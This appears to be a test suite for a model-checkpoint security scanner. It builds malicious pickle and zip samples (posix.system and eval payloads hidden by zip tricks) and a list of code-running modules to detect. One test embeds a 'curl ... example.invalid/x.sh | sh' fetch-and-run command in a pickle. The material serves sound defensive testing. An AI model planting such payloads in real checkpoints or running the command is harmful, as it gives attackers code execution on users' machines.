"""ckpt scan: every malicious file of the corpus is unsafe, benign checkpoints are
safe (the documented exceptions aside), and each attack class made here by hand
is caught and explained: zip tricks, pickles hidden or broken, TorchScript,
TorchVersion. Also the severities (safe, warning, unsafe), calls shown as Python
reads them, --allow, --fail-on, directory walks, the JSON shape and the exit codes."""
import io
import json
import pathlib
import random
import re
import struct
import zipfile
import zlib

import pytest
import torch

HERE = pathlib.Path(__file__).resolve().parent

# Hand-written payloads. They are only ever scanned, never unpickled.
POSIX_SYSTEM = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
BUILTINS_EVAL = b"\x80\x02cbuiltins\neval\nX\x01\x00\x00\x001\x85R."
BENIGN_LIST = b"\x80\x02]q\x00(K\x01K\x02e."

# Globals a well-known payload uses to run code: a finding must mark them.
RUNS_CODE_MODULES = ("os", "posix", "nt", "subprocess", "runpy", "pty", "socket", "sys",
                     "ctypes", "pickle", "_pickle", "webbrowser")
RUNS_CODE_NAMES = {"builtins.eval", "builtins.exec", "builtins.__import__", "builtins.compile",
                   "builtins.getattr", "__builtin__.eval", "__builtin__.exec",
                   "__builtin__.getattr", "__builtin__.compile", "operator.attrgetter",
                   "operator.methodcaller", "pydoc.locate", "pkgutil.resolve_name",
                   "torch.utils.collect_env.run"}


def runs_code(name):
    module = name.rsplit(".", 1)[0]
    return name in RUNS_CODE_NAMES or any(module == m or module.startswith(m + ".")
                                          for m in RUNS_CODE_MODULES)


def scan_json(tool, *args, code=None):
    res = tool.run("scan", "--json", *args)
    assert res.returncode in (0, 1, 2), res.describe()
    if code is not None:
        assert res.returncode == code, res.describe()
    return json.loads(res.stdout)


def scan_one(tool, path, *allow):
    args = [a for name in allow for a in ("--allow", name)]
    js = scan_json(tool, path, *args)
    assert len(js["files"]) == 1
    return js["files"][0]


def kinds(report):
    return {f["kind"] for f in report["findings"]}


def globals_of(report):
    return {f["global"] for f in report["findings"] if f["kind"] == "global"}


def finding(report, kind, glob=None):
    for f in report["findings"]:
        if f["kind"] == kind and (glob is None or f["global"] == glob):
            return f
    raise AssertionError(f"no {kind} {glob or ''} finding in {json.dumps(report, indent=1)}")


# ---- a zip writer that can lie ------------------------------------------------

def build_zip(entries, between=b"", comment=b""):
    """A stored zip of entries (dicts: name, data, and optionally local_name,
    flags, crc, in_cd=False for a local header the directory leaves out).
    between: bytes put between entries (offsets stay right); comment: the
    archive's comment."""
    out = bytearray()
    central = bytearray()
    count = 0
    for i, e in enumerate(entries):
        if i and between:
            out += between
        data = e["data"]
        name = e["name"].encode()
        local = e.get("local_name", e["name"]).encode()
        flags = e.get("flags", 0)
        crc = e.get("crc", zlib.crc32(data) & 0xFFFFFFFF)
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0, crc, len(data),
                           len(data), len(local), 0) + local + data
        if not e.get("in_cd", True):
            continue
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0, crc,
                               len(data), len(data), len(name), 0, 0, 0, 0, 0, offset) + name
        count += 1
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset,
                       len(comment)) + comment
    return bytes(out)


def torch_records(obj, prefix="ckpt"):
    """The records torch.save writes for obj, as (name, bytes), renamed to prefix/."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return [(prefix + "/" + n.split("/", 1)[1], z.read(n)) for n in z.namelist()]


def state():
    torch.manual_seed(0)
    return {"fc.weight": torch.randn(3, 4), "fc.bias": torch.randn(3)}


def entries_of(records):
    return [{"name": n, "data": d} for n, d in records]


@pytest.fixture(scope="module")
def made(gen_dir):
    """Files made for these tests: name -> path."""
    d = gen_dir / "scan"
    d.mkdir()
    out = {}

    def put(name, data):
        out[name] = d / name
        out[name].write_bytes(data)

    recs = torch_records(state())
    base = build_zip(entries_of(recs))
    put("rezipped.pt", base)
    torch.save(state(), d / "saved.pt")
    out["saved.pt"] = d / "saved.pt"
    torch.save(state(), d / "legacy.pt", _use_new_zipfile_serialization=False)
    out["legacy.pt"] = d / "legacy.pt"

    pkl = dict(recs)["ckpt/data.pkl"]
    others = [e for e in entries_of(recs) if e["name"] != "ckpt/data.pkl"]
    # a benign data.pkl first, a malicious copy of the same name after it
    put("duplicate.pt", build_zip(entries_of(recs) + [{"name": "ckpt/data.pkl",
                                                        "data": POSIX_SYSTEM}]))
    put("duplicate_first.pt", build_zip([{"name": "ckpt/data.pkl", "data": POSIX_SYSTEM}] +
                                        entries_of(recs)))
    put("name_mismatch.pt", build_zip(others + [{"name": "ckpt/data.pkl", "data": pkl,
                                                 "local_name": "ckpt/data.pkX"}]))
    for bit in (0x1, 0x20, 0x40):
        put(f"flags_{bit:#x}.pt", build_zip(others + [{"name": "ckpt/data.pkl", "data": pkl,
                                                        "flags": bit}]))
    put("crc.pt", build_zip(others + [{"name": "ckpt/data.pkl", "data": pkl,
                                       "crc": zlib.crc32(pkl + b"x") & 0xFFFFFFFF}]))
    put("appended.pt", base + POSIX_SYSTEM)
    put("prepended.pt", b"#!/bin/sh\necho hi\n" + base)
    put("between.pt", build_zip(entries_of(recs), between=b"\0" * 7))
    put("hidden.pt", build_zip([{"name": "ckpt/evil.pkl", "data": POSIX_SYSTEM, "in_cd": False}] +
                               entries_of(recs)))
    put("extra_pickle.pt", build_zip(entries_of(recs) + [{"name": "ckpt/extra.pkl",
                                                          "data": BUILTINS_EVAL}]))
    put("pickle_as_text.pt", build_zip(entries_of(recs) + [{"name": "ckpt/notes.txt",
                                                            "data": BUILTINS_EVAL}]))
    evil = build_zip([{"name": "inner/data.pkl", "data": POSIX_SYSTEM},
                      {"name": "inner/version", "data": b"3\n"}])
    put("nested.pt", build_zip(entries_of(recs) + [{"name": "ckpt/extra/inner.pt", "data": evil}]))
    data0 = dict(recs)["ckpt/data/0"]
    short = [e if e["name"] != "ckpt/data/0" else {"name": e["name"], "data": data0[:8]}
             for e in entries_of(recs)]
    put("short_storage.pt", build_zip(short))
    put("comment.pt", build_zip(entries_of(recs), comment=POSIX_SYSTEM))
    # a text persistent id (PERSID) where torch wants a storage tuple
    persid = [e if e["name"] != "ckpt/data.pkl" else
              {"name": e["name"], "data": b"\x80\x02}X\x01\x00\x00\x00wPstorage\ns."}
              for e in entries_of(recs)]
    put("persid.pt", build_zip(persid))

    # plain pickle streams
    stack_global = (b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94" b"00h\x00h\x01\x93"
                    b"\x8c\x04true\x85R.")
    put("stack_global.pkl", stack_global)
    put("broken.pkl", POSIX_SYSTEM[:-1] + b"\xff.")
    put("back_to_back.pkl", BENIGN_LIST + BUILTINS_EVAL)
    put("benign.pkl", BENIGN_LIST)
    put("legacy_appended.pt", out["legacy.pt"].read_bytes() + POSIX_SYSTEM)
    put("custom_class.pkl", b"\x80\x02cmylib.layers\nScale\n)\x81}X\x01\x00\x00\x00kK\x02sb.")

    # TorchScript
    class Tiny(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x):
            return self.lin(x)

    torch.jit.save(torch.jit.script(Tiny()), str(d / "scripted.pt"))
    out["scripted.pt"] = d / "scripted.pt"

    # a training checkpoint that saves torch.__version__ (a TorchVersion)
    torch.save({"model": state(), "epoch": 3, "torch_version": torch.__version__},
               d / "with_version.pt")
    out["with_version.pt"] = d / "with_version.pt"

    # safetensors
    header = json.dumps({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    header += b" " * (-len(header) % 8)
    put("good.safetensors", struct.pack("<Q", len(header)) + header + b"\0\0\x80?")
    dup = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},' \
          b'"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    put("duplicate_keys.safetensors", struct.pack("<Q", len(dup)) + dup + b"\0\0\x80?")
    return out


# ---- the corpus -----------------------------------------------------------------

def manifest_payloads(corpus_dir):
    """malicious path -> the backticked globals of its Payload column."""
    rows = {}
    for line in (corpus_dir / "MANIFEST.md").read_text().splitlines():
        m = re.match(r"\| `(malicious/[^`]+)` \|", line)
        if not m:
            continue
        cols = [c.strip() for c in line.split("|")]
        rows[m.group(1)] = re.findall(r"`([^`]+)`", cols[9])
    return rows


def test_every_malicious_file_is_unsafe(tool, corpus_dir):
    js = scan_json(tool, corpus_dir / "malicious", code=1)
    files = sorted(p for p in (corpus_dir / "malicious").rglob("*") if p.is_file())
    assert len(js["files"]) == len(files) >= 120
    assert js["unsafe"] == len(files) and js["safe"] == 0 and js["errors"] == 0
    payloads = manifest_payloads(corpus_dir)
    checked = 0
    for rep in js["files"]:
        rel = str(pathlib.Path(rep["file"]).relative_to(corpus_dir))
        assert rep["verdict"] == "unsafe", rep
        assert rep["findings"], rep
        for name in payloads.get(rel, []):
            if not runs_code(name) or " " in name:
                continue
            hits = [f for f in rep["findings"] if f["kind"] == "global" and f["global"] == name]
            assert hits, f"{rel}: {name} not reported\n{json.dumps(rep, indent=1)}"
            assert all(f["runs_code"] for f in hits), rel
            checked += 1
    assert checked >= 60


def test_malicious_details(tool, corpus_dir):
    m = corpus_dir / "malicious"
    rep = scan_one(tool, m / "picklescan/data/malicious11.pkl")   # STACK_GLOBAL via memo
    f = finding(rep, "global", "os.system")
    assert f["use"] == "called by REDUCE" and f["runs_code"] and f["record"] == "pickle"
    rep = scan_one(tool, m / "picklescan/data2/keyerror-exploit.pkl")   # breaks after payload
    assert "os.system" in globals_of(rep) and "broken_pickle" in kinds(rep)
    rep = scan_one(tool, m / "picklescan/data/broken_model.pkl")
    assert "builtins.exec" in globals_of(rep)
    assert finding(rep, "broken_pickle")["offset"] == 16
    rep = scan_one(tool, m / "picklescan/data/malicious6.pkl")     # two pickles
    assert "extra_pickle" in kinds(rep) and "requests.api.get" in globals_of(rep)
    rep = scan_one(tool, m / "picklescan/data/malicious1_central_directory.zip")
    assert {"name_mismatch", "global"} <= kinds(rep)
    rep = scan_one(tool, m / "picklescan/data2/malicious1_crc.zip")
    assert {"crc_mismatch", "global"} <= kinds(rep)
    for bit in ("0x1", "0x20", "0x40"):
        rep = scan_one(tool, m / f"picklescan/data/malicious1_{bit}.zip")
        assert {"zip_flags", "global"} <= kinds(rep), bit
        assert "builtins.eval" in globals_of(rep)
    rep = scan_one(tool, m / "picklescan/data/malicious1.7z")
    assert rep["format"] == "7z" and "builtins.eval" in globals_of(rep)
    rep = scan_one(tool, m / "picklescan/data/malicious10.pkl")
    assert finding(rep, "global", "__builtin__.exec")["use"] == "called by INST"
    rep = scan_one(tool, m / "picklescan/data2/dns_exfiltration.npy")
    assert rep["format"] == "numpy" and "ssl.get_server_certificate" in globals_of(rep)
    rep = scan_one(tool, m / "modelaudit/samples/archives/path_traversal.zip")
    assert {"unsafe_name", "extra_pickle"} <= kinds(rep) and "posix.system" in globals_of(rep)


# benign files that are unsafe, and why (docs/CORPUS.md, "Scan verdicts")
TORCHSCRIPT = "a TorchScript archive: it holds code torch.jit.load runs"
NUMPY_GLOBALS = "pickles numpy/scipy objects: globals outside the allow-list"
NOT_A_CHECKPOINT = "not a checkpoint torch.load reads"
OPCODES = "pickle protocol 1, 4 or 5: opcodes torch's weights-only reader lacks"
BENIGN_UNSAFE = {
    **{f"TorchSharp/{n}": TORCHSCRIPT for n in (
        "exported.method.dat", "func.script.dat", "l1000_100_10.script.dat",
        "linrelu.script.dat", "list_out.dat", "scripted.script.dat", "shakespeare.pt.zip",
        "tuple_out.dat")},
    "djl/identity.pt": TORCHSCRIPT,
    "mlverse-torch/linear.pt": TORCHSCRIPT,
    **{f"tch-rs/{n}": TORCHSCRIPT for n in (
        "2019-05/foo.pt", "2019-05/foo3.pt", "2019-12/foo4.pt", "2024-11/foo9.pt", "foo.pt",
        "foo1.pt", "foo2.pt", "foo3.pt", "foo4.pt", "foo5.pt", "foo6.pt", "foo7.pt", "foo8.pt")},
    **{f"Pickle.jl/{n}": NUMPY_GLOBALS for n in (
        "csr_mat.pkl", "test-np-end.pkl", "test-np-multi.pkl", "test-np-scalar.pkl",
        "test-np-string.pkl", "test-np.pkl")},
    **{f"bumblebee/{n}": NUMPY_GLOBALS for n in (
        "noncontiguous_numpy_array.legacy.pt", "noncontiguous_numpy_array.zip.pt",
        "numpy_arrays.legacy.pt", "numpy_arrays.zip.pt")},
    **{f"picklescan/data2/{n}": NUMPY_GLOBALS for n in (
        "object_array.npy", "object_arrays.npz", "object_arrays_compressed.npz")},
    "zml/simple.pt": "a pickled nn.Module: torch.nn.modules.conv.Conv2d is not allowed",
    "burn/src/pytorch/tests/reader/test_data/broken.pt": "three bytes 'abc': a broken pickle",
    "burn/src/pytorch/tests/reader/test_data/tar_float32.tar": "the pre-0.4 tar format",
    "burn/src/pytorch/tests/reader/test_data/tar_multi_dtype.tar": "the pre-0.4 tar format",
    "modelaudit/samples/pytorch/safe_model.pt": "records at the zip root: torch refuses it",
    "modelaudit/samples/archives/safe_model.zip": NOT_A_CHECKPOINT,
    "modelscan/password_protected.zip": "encrypted entries (flag bit 0x1), not a checkpoint",
    "picklescan/data/benign_password_protected.zip": "encrypted entries (flag bit 0x1)",
    "candle/test.npz": NOT_A_CHECKPOINT,
    "picklescan/data2/int_array.npy": NOT_A_CHECKPOINT,
    "picklescan/data2/int_arrays.npz": NOT_A_CHECKPOINT,
    "picklescan/data2/int_arrays_compressed.npz": NOT_A_CHECKPOINT,
    **{f"gopickle/tensor_{t}_proto{p}{z}.pt": OPCODES for t in ("bool", "float32")
       for p in (1, 4, 5) for z in ("", "_zip")},
}
EXPECTED_KIND = {TORCHSCRIPT: "torchscript", NUMPY_GLOBALS: "global",
                 NOT_A_CHECKPOINT: "format", OPCODES: "opcode"}
# of those, the ones in which nothing runs code: torch's default reader refuses
# them (numpy arrays, a .npy of numbers), so they are a warning, not unsafe
BENIGN_WARNING = {
    *(f"Pickle.jl/{n}" for n in ("test-np-end.pkl", "test-np-multi.pkl",
                                 "test-np-scalar.pkl", "test-np-string.pkl", "test-np.pkl")),
    *(f"bumblebee/{n}" for n in (
        "noncontiguous_numpy_array.legacy.pt", "noncontiguous_numpy_array.zip.pt",
        "numpy_arrays.legacy.pt", "numpy_arrays.zip.pt")),
    "picklescan/data2/int_array.npy",
    "candle/test.npz", "picklescan/data2/int_arrays.npz",
    "picklescan/data2/int_arrays_compressed.npz",
    *(rel for rel, why in BENIGN_UNSAFE.items() if why == OPCODES),
}


def test_benign_files_are_safe_but_the_documented(tool, corpus_dir, source_dir):
    js = scan_json(tool, corpus_dir / "benign")
    assert js["errors"] == 0
    unsafe = {}
    for rep in js["files"]:
        rel = str(pathlib.Path(rep["file"]).relative_to(corpus_dir / "benign"))
        if rep["verdict"] != "safe":
            unsafe[rel] = rep
        else:
            assert rep["findings"] == []
    assert sorted(unsafe) == sorted(BENIGN_UNSAFE)
    for rel, rep in unsafe.items():
        expected = "warning" if rel in BENIGN_WARNING else "unsafe"
        assert rep["verdict"] == expected, (rel, rep)
        assert rep["torch_weights_only_loads"] is False
        if expected == "warning":
            assert {f["severity"] for f in rep["findings"]} == {"warning"}, rel
    assert js["warning"] == len(BENIGN_WARNING)
    for rel, why in BENIGN_UNSAFE.items():
        if why in EXPECTED_KIND:
            assert EXPECTED_KIND[why] in kinds(unsafe[rel]), rel
    assert js["safe"] >= 140
    doc = (source_dir / "docs" / "CORPUS.md").read_text()
    assert "## Scan verdicts" in doc
    for rel in BENIGN_UNSAFE:
        # each exception is named in the documentation, alone or by its folder
        assert rel in doc or rel.split("/")[0] in doc, rel


# ---- attacks made here -----------------------------------------------------------

def test_clean_files_are_safe(tool, made):
    for name in ("rezipped.pt", "saved.pt", "legacy.pt", "benign.pkl", "good.safetensors"):
        rep = scan_one(tool, made[name])
        assert rep["verdict"] == "safe", rep
        assert rep["findings"] == []
    assert scan_one(tool, made["saved.pt"])["format"] == "torch-zip"
    assert scan_one(tool, made["legacy.pt"])["format"] == "torch-legacy"
    assert scan_one(tool, made["good.safetensors"])["format"] == "safetensors"


@pytest.mark.parametrize("name", ["duplicate.pt", "duplicate_first.pt"])
def test_duplicate_names_scan_every_copy(tool, made, name):
    rep = scan_one(tool, made[name])
    assert rep["verdict"] == "unsafe"
    dup = finding(rep, "duplicate_name")
    assert dup["record"] == "ckpt/data.pkl"
    f = finding(rep, "global", "posix.system")
    assert f["record"] == "ckpt/data.pkl" and f["use"] == "called by REDUCE"
    assert f["file_offset"] is not None


def test_zip_tricks(tool, made):
    rep = scan_one(tool, made["name_mismatch.pt"])
    assert "data.pkX" in finding(rep, "name_mismatch")["message"]
    for bit in ("0x1", "0x20", "0x40"):
        rep = scan_one(tool, made[f"flags_{bit}.pt"])
        f = finding(rep, "zip_flags")
        assert bit in f["message"] and f["record"] == "ckpt/data.pkl"
    assert finding(scan_one(tool, made["crc.pt"]), "crc_mismatch")["record"] == "ckpt/data.pkl"
    rep = scan_one(tool, made["appended.pt"])
    assert "after the end of the archive" in finding(rep, "extra_bytes")["message"]
    rep = scan_one(tool, made["prepended.pt"])
    assert "before the archive" in finding(rep, "extra_bytes")["message"]
    assert "extra_bytes" in kinds(scan_one(tool, made["between.pt"]))
    rep = scan_one(tool, made["hidden.pt"])
    assert {"zip_structure", "extra_pickle", "extra_bytes"} <= kinds(rep)
    assert finding(rep, "global", "posix.system")["record"].startswith("ckpt/evil.pkl")
    rep = scan_one(tool, made["extra_pickle.pt"])
    assert finding(rep, "extra_pickle")["record"] == "ckpt/extra.pkl"
    assert finding(rep, "global", "builtins.eval")["record"] == "ckpt/extra.pkl"
    rep = scan_one(tool, made["pickle_as_text.pt"])
    assert finding(rep, "global", "builtins.eval")["record"] == "ckpt/notes.txt"
    rep = scan_one(tool, made["nested.pt"])
    assert finding(rep, "nested_archive")["record"] == "ckpt/extra/inner.pt"
    assert finding(rep, "global", "posix.system")["record"] == "ckpt/extra/inner.pt!inner/data.pkl"
    rep = scan_one(tool, made["short_storage.pt"])
    assert "CVE-2026-24747" in finding(rep, "storage")["message"]
    rep = scan_one(tool, made["comment.pt"])
    assert finding(rep, "extra_pickle")["record"] == "zip comment"
    assert finding(rep, "global", "posix.system")["record"] == "zip comment"
    rep = scan_one(tool, made["persid.pt"])
    assert "persistent id" in finding(rep, "storage")["message"]



# a protocol-0 payload: it does not start with PROTO
POSIX_SYSTEM_P0 = b"cposix\nsystem\n(S'true'\ntR."


def test_names_differing_only_in_case(tool, tmp_path):
    """torch's zip reader (miniz) looks records up ignoring ASCII case: of
    data.pkl and data.PKL it reads either, depending on the other names. The
    second is a duplicate and is scanned as torch would read it, however large
    and whatever its protocol; a data.pkl torch finds only that way is read."""
    recs = torch_records(state())
    p = tmp_path / "case.pt"
    big = POSIX_SYSTEM_P0 + bytes(17 << 20)
    p.write_bytes(build_zip(entries_of(recs) + [{"name": "ckpt/data.PKL", "data": big}]))
    rep = scan_one(tool, p)
    assert rep["verdict"] == "unsafe"
    dup = finding(rep, "duplicate_name")
    assert dup["record"] == "ckpt/data.PKL" and "ignores case" in dup["message"]
    assert finding(rep, "global", "posix.system")["record"] == "ckpt/data.PKL"
    # torch really reads a variant of the name: then it is what is scanned
    only = [{"name": n.replace("data.pkl", "DATA.PKL"), "data": d} for n, d in recs]
    p.write_bytes(build_zip(only))
    assert set(torch.load(p, weights_only=True)) == set(state())
    rep = scan_one(tool, p)
    assert rep["verdict"] == "safe" and rep["format"] == "torch-zip", rep
    evil = [e if e["name"] != "ckpt/DATA.PKL" else {"name": e["name"], "data": POSIX_SYSTEM}
            for e in only]
    p.write_bytes(build_zip(evil))
    assert finding(scan_one(tool, p), "global", "posix.system")["record"] == "ckpt/DATA.PKL"


@pytest.mark.parametrize("deflated", [False, True])
def test_large_records_are_checked_for_pickles(tool, tmp_path, deflated):
    """A record past 16 MiB that torch never reads is still checked for a pickle
    of any protocol (its bytes are only read further when it is one)."""
    recs = torch_records(state())
    pad = random.Random(0).randbytes(17 << 20) if deflated else bytes(17 << 20)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in recs:
            z.writestr(n, d)
        z.writestr("ckpt/notes", POSIX_SYSTEM_P0 + pad,
                   compress_type=zipfile.ZIP_DEFLATED if deflated else zipfile.ZIP_STORED)
    p = tmp_path / "large.pt"
    p.write_bytes(buf.getvalue())
    rep = scan_one(tool, p)
    assert finding(rep, "extra_pickle")["record"] == "ckpt/notes"
    assert finding(rep, "global", "posix.system")["record"] == "ckpt/notes"
    # a large record that is no pickle stays unread
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in recs:
            z.writestr(n, d)
        z.writestr("ckpt/notes", b"\xff" + pad)
    p.write_bytes(buf.getvalue())
    assert scan_one(tool, p)["verdict"] == "safe"

def test_pickle_tricks(tool, made):
    rep = scan_one(tool, made["stack_global.pkl"])
    f = finding(rep, "global", "os.system")
    assert f["offset"] == 22 and f["use"] == "called by REDUCE" and f["runs_code"]
    rep = scan_one(tool, made["broken.pkl"])
    assert finding(rep, "global", "posix.system")["use"] == "called by REDUCE"
    b = finding(rep, "broken_pickle")
    assert b["offset"] == len(POSIX_SYSTEM) - 1 and "0xff" in b["message"]
    rep = scan_one(tool, made["back_to_back.pkl"])
    assert finding(rep, "extra_pickle")["file_offset"] == len(BENIGN_LIST)
    g = finding(rep, "global", "builtins.eval")
    assert g["record"] == "pickle 2" and g["file_offset"] == len(BENIGN_LIST) + 2
    rep = scan_one(tool, made["legacy_appended.pt"])
    assert rep["format"] == "torch-legacy"
    assert "extra_pickle" in kinds(rep) and "posix.system" in globals_of(rep)


def test_torchscript(tool, made):
    rep = scan_one(tool, made["scripted.pt"])
    assert rep["verdict"] == "unsafe" and rep["format"] == "torchscript"
    assert "code" in finding(rep, "torchscript")["message"]
    assert "--torchscript-weights" in finding(rep, "torchscript")["message"]


def test_torch_version_is_a_warning(tool, made):
    """torch.__version__ saved by a training script: nothing runs, but torch >= 2.6
    refuses it by default. A warning (exit 0), unsafe for --fail-on warning."""
    rep = scan_one(tool, made["with_version.pt"])
    assert rep["verdict"] == "warning" and rep["torch_weights_only_loads"] is False
    f = finding(rep, "global", "torch.torch_version.TorchVersion")
    assert f["severity"] == "warning" and not f["runs_code"]
    assert f["call"] == f"torch.torch_version.TorchVersion({torch.__version__!r})"
    assert "add_safe_globals([torch.torch_version.TorchVersion])" in f["message"]
    assert "--allow torch.torch_version.TorchVersion" in f["message"]
    assert rep["reason"] == f["message"]
    res = tool.run("scan", made["with_version.pt"])
    assert res.returncode == 0, res.describe()
    assert res.stdout.startswith(f"{made['with_version.pt']}: warning (1 finding, torch-zip)")
    assert "  warning: global torch.torch_version.TorchVersion('" in res.stdout
    res = tool.run("scan", "--fail-on", "warning", made["with_version.pt"])
    assert res.returncode == 1, res.describe()
    assert tool.run("scan", "--fail-on", "unsafe", made["with_version.pt"]).returncode == 0
    assert tool.run("scan", "--fail-on", "bogus", made["with_version.pt"]).returncode == 2
    assert tool.run("scan", "--fail-on", "warning", made["saved.pt"]).returncode == 0
    rep = scan_one(tool, made["with_version.pt"], "torch.torch_version.TorchVersion")
    assert rep["verdict"] == "safe" and rep["findings"] == []
    assert rep["torch_weights_only_loads"] is True


def test_numpy_arrays_are_a_warning(tool, tmp_path):
    import numpy as np
    p = tmp_path / "np.pt"
    torch.save({"w": torch.ones(2), "a": np.arange(3.0)}, p)
    rep = scan_one(tool, p)
    assert rep["verdict"] == "warning", rep
    assert "numpy.core.multiarray._reconstruct" in globals_of(rep)
    np.save(tmp_path / "a.npy", np.arange(3.0))
    assert scan_one(tool, tmp_path / "a.npy")["verdict"] == "warning"
    # what a numpy global returns, called in turn, is not data any more
    called = (b"\x80\x02cnumpy\ndtype\nX\x02\x00\x00\x00f8\x85R)R.")
    (tmp_path / "called.pkl").write_bytes(called)
    rep = scan_one(tool, tmp_path / "called.pkl")
    assert rep["verdict"] == "unsafe" and finding(rep, "global", "numpy.dtype")["severity"] == "unsafe"


def test_npz_of_numbers_is_a_warning_of_objects_unsafe(tool, tmp_path):
    import numpy as np
    np.savez(tmp_path / "n.npz", a=np.arange(3.0), b=np.ones((2, 2), np.int32))
    np.savez_compressed(tmp_path / "z.npz", a=np.arange(5))
    for name in ("n.npz", "z.npz"):
        rep = scan_one(tool, tmp_path / name)
        assert rep["verdict"] == "warning" and rep["format"] == "numpy", rep
        assert rep["torch_weights_only_loads"] is False
        assert [f["severity"] for f in rep["findings"]] == ["warning"], rep
    # an object array's pickle runs under np.load(allow_pickle=True)
    np.savez(tmp_path / "o.npz", a=np.array([{"k": 1}, None], dtype=object))
    rep = scan_one(tool, tmp_path / "o.npz")
    assert rep["verdict"] == "unsafe", rep
    # a zip of other records stays unsafe: not an .npz
    with zipfile.ZipFile(tmp_path / "x.zip", "w") as z:
        z.writestr("a.npy", b"\x93NUMPY")
        z.writestr("notes.txt", b"hi")
    assert scan_one(tool, tmp_path / "x.zip")["verdict"] == "unsafe"


def test_opcodes_torch_lacks_are_a_warning(tool, tmp_path):
    """torch 2.6's weights-only reader runs protocol 2's binary opcodes only:
    a protocol 4 pickle in a torch zip is a warning, the same file at
    protocol 2 is safe."""
    for proto, verdict in ((2, "safe"), (4, "warning")):
        p = tmp_path / f"p{proto}.pt"
        torch.save({"w": torch.ones(2)}, p, pickle_protocol=proto)
        rep = scan_one(tool, p)
        assert rep["verdict"] == verdict, rep
        assert rep["torch_weights_only_loads"] is (verdict == "safe")
        if verdict == "warning":
            assert {f["kind"] for f in rep["findings"]} == {"opcode"}, rep
            assert any("FRAME" in f["message"] for f in rep["findings"]), rep


def test_calls_are_shown_as_python_reads_them(tool, tmp_path):
    cmd = "curl -s https://example.invalid/x.sh | sh; " + "x" * 200
    payload = (b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd.encode() +
               b"\x85R.")
    p = tmp_path / "evil.pkl"
    p.write_bytes(payload)
    rep = scan_one(tool, p)
    assert rep["verdict"] == "unsafe" and rep["torch_weights_only_loads"] is False
    f = finding(rep, "global", "posix.system")
    assert f["severity"] == "unsafe" and f["runs_code"]
    assert f["call"].startswith("posix.system('curl -s https://example.invalid/x.sh | sh; xxx")
    assert f["call"].endswith("...)") and len(f["call"]) < 120
    res = tool.run("scan", p)
    assert res.returncode == 1
    assert "  global posix.system('curl -s https://example.invalid/x.sh | sh; " in res.stdout


def test_allow(tool, made):
    rep = scan_one(tool, made["custom_class.pkl"])
    f = finding(rep, "global", "mylib.layers.Scale")
    assert f["use"] == "called by NEWOBJ, BUILD target"
    assert scan_one(tool, made["custom_class.pkl"], "mylib.layers.Scale")["verdict"] == "safe"
    res = tool.run("scan", made["custom_class.pkl"], "--allow=mylib.layers.Scale")
    assert res.returncode == 0, res.describe()
    # torch never allows these modules, whatever is asked
    rep = scan_one(tool, made["stack_global.pkl"], "os.system")
    assert rep["verdict"] == "unsafe"


def test_safetensors_rules(tool, made):
    rep = scan_one(tool, made["duplicate_keys.safetensors"])
    assert rep["verdict"] == "unsafe" and rep["format"] == "safetensors"


def test_tensor_records_are_not_read(tool, made, tmp_path):
    """A corrupt tensor record changes nothing for scan (it never reads it) while
    verify, which reads everything, sees it."""
    raw = bytearray(made["saved.pt"].read_bytes())
    with zipfile.ZipFile(made["saved.pt"]) as z:
        info = [i for i in z.infolist() if "/data/" in i.filename][0]
        nlen, xlen = struct.unpack_from("<HH", raw, info.header_offset + 26)
        raw[info.header_offset + 30 + nlen + xlen] ^= 0xFF
    p = tmp_path / "flipped.pt"
    p.write_bytes(bytes(raw))
    assert scan_one(tool, p)["verdict"] == "safe"
    assert tool.run("verify", p).returncode == 1


def test_sharded_index(tool, made, tmp_path):
    d = tmp_path / "sharded"
    d.mkdir()
    (d / "a.safetensors").write_bytes(made["good.safetensors"].read_bytes())
    (d / "b.bin").write_bytes(made["extra_pickle.pt"].read_bytes())
    index = {"metadata": {}, "weight_map": {"a": "a.safetensors"}}
    (d / "good.index.json").write_text(json.dumps(index))
    rep = scan_one(tool, d / "good.index.json")
    assert rep["verdict"] == "safe" and rep["format"] == "sharded"
    index["weight_map"]["b"] = "b.bin"
    (d / "bad.index.json").write_text(json.dumps(index))
    rep = scan_one(tool, d / "bad.index.json")
    assert finding(rep, "global", "builtins.eval")["record"].startswith("b.bin: ")


# ---- the command -----------------------------------------------------------------

def test_json_shape_and_exit_codes(tool, made, tmp_path):
    js = scan_json(tool, made["saved.pt"], made["broken.pkl"], code=1)
    assert set(js) == {"files", "safe", "warning", "unsafe", "errors", "skipped"}
    assert (js["safe"], js["warning"], js["unsafe"], js["errors"]) == (1, 0, 1, 0)
    safe, bad = js["files"]
    assert safe == {"file": str(made["saved.pt"]), "verdict": "safe", "format": "torch-zip",
                    "torch_weights_only_loads": True, "reason": safe["reason"],
                    "findings": []}
    assert bad["verdict"] == "unsafe" and bad["format"] == "pickle"
    assert bad["torch_weights_only_loads"] is False and "posix.system" in bad["reason"]
    for f in bad["findings"]:
        assert set(f) >= {"kind", "severity", "global", "call", "record", "offset", "use",
                          "runs_code", "message"}
        assert f["severity"] == "unsafe"
        assert isinstance(f["runs_code"], bool) and isinstance(f["message"], str)
        assert f["use"] is None or f["kind"] == "global"
    assert scan_json(tool, made["saved.pt"], code=0)["safe"] == 1
    missing = tmp_path / "missing.pt"
    js = scan_json(tool, made["saved.pt"], missing, made["broken.pkl"], code=2)
    err = js["files"][1]
    assert err["verdict"] == "error" and err["format"] is None and "error" in err
    assert js["errors"] == 1


def test_human_output(tool, made):
    res = tool.run("scan", made["saved.pt"], made["broken.pkl"])
